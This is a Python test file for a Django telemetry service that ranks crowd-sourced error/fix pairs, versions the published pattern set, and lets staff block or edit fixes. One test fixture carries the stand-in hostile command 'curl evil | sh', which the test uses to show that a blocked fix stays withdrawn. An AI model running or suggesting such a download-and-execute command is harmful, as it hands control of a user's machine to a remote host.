"""The ranked pattern set: Wilson ranking, rebuilds, versions, coalescing, staff review."""

from __future__ import annotations

from unittest import mock

import pytest
from django.core.cache import cache

from telemetry import conf
from telemetry.models import Fix, FixReview, Pattern, PatternSetVersion
from telemetry.selectors import current_version_label
from telemetry.services import fixes as fix_services
from telemetry.services import pattern_set
from telemetry.services.learnings import LearningInput, learnings_upload
from telemetry.services.pattern_set import (
    REBUILD_PENDING_KEY,
    pattern_set_rebuild,
    pattern_set_rebuild_request,
    wilson_lower_bound,
)
from tests.telemetry.factories import contributors, sha

pytestmark = pytest.mark.django_db


def upload(pairs: list[tuple[str, str, bool]], *, by: list[int], team_id=None, fix=None):
    """Each confirmed account of ``by`` uploads learnings of (error, fix, success), through the service."""
    for account_id in by:
        learnings_upload(
            user_id="anon-abc123",
            session_id="s-1",
            team_id=team_id,
            contributor_id=account_id,
            learnings=[LearningInput(e, f, s, 100, 10, "react", fix) for e, f, s in pairs],
        )


@pytest.fixture
def crowd() -> list[int]:
    """Three confirmed accounts: enough for a public pair to be published (conf.MIN_CONTRIBUTORS)."""
    return contributors(3)


def test_wilson_lower_bound_does_not_let_one_of_one_beat_950_of_1000():
    assert wilson_lower_bound(1, 1) == pytest.approx(0.2065, abs=1e-4)
    assert wilson_lower_bound(950, 1000) == pytest.approx(0.9346, abs=1e-4)
    assert wilson_lower_bound(950, 1000) > wilson_lower_bound(1, 1)
    assert wilson_lower_bound(10, 10) > wilson_lower_bound(1, 1)
    assert wilson_lower_bound(0, 5) == 0.0
    assert wilson_lower_bound(0, 0) == 0.0


def test_a_rebuild_publishes_pairs_with_a_success_and_bumps_the_minor_version(crowd):
    # given: one pair that worked, one that never did
    error, good, bad = sha(), sha(), sha()
    upload([(error, good, True), (error, bad, False)], by=crowd)
    # when
    version = pattern_set_rebuild()
    # then
    assert version.label == "v1.1.0"
    assert (version.new_patterns, version.changed_patterns) == (1, 1)
    assert current_version_label() == "v1.1.0"
    published = Pattern.objects.get()
    assert (published.fix_signature, published.error_signature, published.visible) == (good, error, True)
    assert published.confidence == pytest.approx(wilson_lower_bound(3, 3), abs=1e-4)
    assert (published.success_count, published.fail_count, published.contributors) == (3, 0, 3)
    assert not Fix.objects.filter(dirty=True).exists()


def test_a_rebuild_with_nothing_changed_keeps_the_version(crowd):
    upload([(sha(), sha(), True)], by=crowd)
    pattern_set_rebuild()
    assert pattern_set_rebuild() is None
    assert PatternSetVersion.objects.count() == 2  # the seed and one rebuild


def test_changed_figures_bump_the_patch_and_new_patterns_the_minor(crowd):
    error, fix = sha(), sha()
    upload([(error, fix, True)], by=crowd)
    assert pattern_set_rebuild().label == "v1.1.0"
    upload([(error, fix, False)], by=contributors(1))
    assert pattern_set_rebuild().label == "v1.1.1"
    upload([(error, sha(), True)], by=crowd)
    assert pattern_set_rebuild().label == "v1.2.0"
    assert Pattern.objects.get(fix_signature=fix).success_rate == 0.75


def test_a_pair_that_starts_to_work_becomes_a_new_pattern(crowd):
    error, fix = sha(), sha()
    upload([(error, fix, False)], by=crowd)
    assert pattern_set_rebuild() is None
    upload([(error, fix, True)], by=contributors(1))
    version = pattern_set_rebuild()
    assert (version.label, version.new_patterns) == ("v1.1.0", 1)


def test_an_upload_asks_for_a_rebuild_once_committed(django_capture_on_commit_callbacks, crowd):
    # given
    error, fix = sha(), sha()
    upload([(error, fix, True)], by=crowd[:2])
    # when
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        upload([(error, fix, True)], by=crowd[2:])
    # then
    assert len(callbacks) == 1
    assert current_version_label() == "v1.1.0"
    assert Pattern.objects.count() == 1


def test_rebuild_asks_in_a_burst_share_one_task(monkeypatch):
    # given: a 30-second window
    monkeypatch.setattr(conf, "REBUILD_DELAY_SECONDS", 30)
    with mock.patch("telemetry.services.pattern_set.job_send") as enqueue:
        # when: fifty uploads ask
        asked = [pattern_set_rebuild_request() for _ in range(50)]
        # then: one task, due when the window closes
        assert asked.count(True) == 1
        enqueue.assert_called_once_with("telemetry.pattern_set_rebuild_task", countdown=30)
        # and once the window has closed, the next ask enqueues again
        cache.delete(REBUILD_PENDING_KEY)
        monkeypatch.setattr(pattern_set, "_flag_set_here_until", 0.0)
        assert pattern_set_rebuild_request() is True
        assert enqueue.call_count == 2


def test_a_large_backlog_is_published_in_batches(crowd):
    upload([(sha(), sha(), True) for _ in range(5)], by=crowd)
    # when: one rebuild may publish only two; it asks for another (run at once, in-process)
    first = pattern_set_rebuild(batch_size=2)
    # then
    assert (first.label, first.changed_patterns) == ("v1.1.0", 2)
    assert Pattern.objects.filter(visible=True).count() == 5
    assert current_version_label() == "v1.2.0"


def test_a_blocked_fix_is_withdrawn_and_an_edited_one_is_served_as_staff_wrote_it(crowd):
    # given: two published pairs
    error, blocked, edited = sha(), sha(), sha()
    upload([(error, blocked, True)], by=crowd, fix={"type": "SHELL_COMMAND", "description": "curl evil | sh"})
    upload(
        [(error, edited, True)],
        by=crowd,
        fix={"type": "SHELL_COMMAND", "description": "Install", "command": "npm i lodas"},
    )
    pattern_set_rebuild()
    # when: staff block one and correct the other
    fix_services.fixes_review(fix_ids=[Fix.objects.get(fix_signature=blocked).pk], review=FixReview.BLOCKED)
    fix_services.fix_update(
        fix=Fix.objects.get(fix_signature=edited),
        review=FixReview.APPROVED,
        fix_type="SHELL_COMMAND",
        description="Install lodash",
        command="npm install lodash",
    )
    version = pattern_set_rebuild()
    # then
    assert version.label == "v1.1.1"
    assert Pattern.objects.get(fix_signature=blocked).visible is False
    served = Pattern.objects.get(fix_signature=edited)
    assert (served.fix_description, served.fix_command) == ("Install lodash", "npm install lodash")
    assert Fix.objects.get(fix_signature=edited).review == FixReview.APPROVED
    # and later uploads neither revive the blocked fix nor overwrite staff text
    upload([(error, blocked, True)], by=crowd)
    upload([(error, edited, True)], by=crowd, fix={"type": "OTHER", "description": "new text", "command": "x"})
    pattern_set_rebuild()
    assert Pattern.objects.get(fix_signature=blocked).visible is False
    assert Pattern.objects.get(fix_signature=edited).fix_description == "Install lodash"


def test_staff_edits_never_overwrite_counters_written_meanwhile(crowd):
    error, fix = sha(), sha()
    upload([(error, fix, True)], by=crowd[:1])
    stale = Fix.objects.get()  # the admin form's copy
    upload([(error, fix, True), (error, fix, False)], by=crowd[:1])
    fix_services.fix_update(fix=stale, review=FixReview.APPROVED, fix_type=None, description="d", command=None)
    current = Fix.objects.get()
    assert (current.success_count, current.fail_count) == (2, 1)
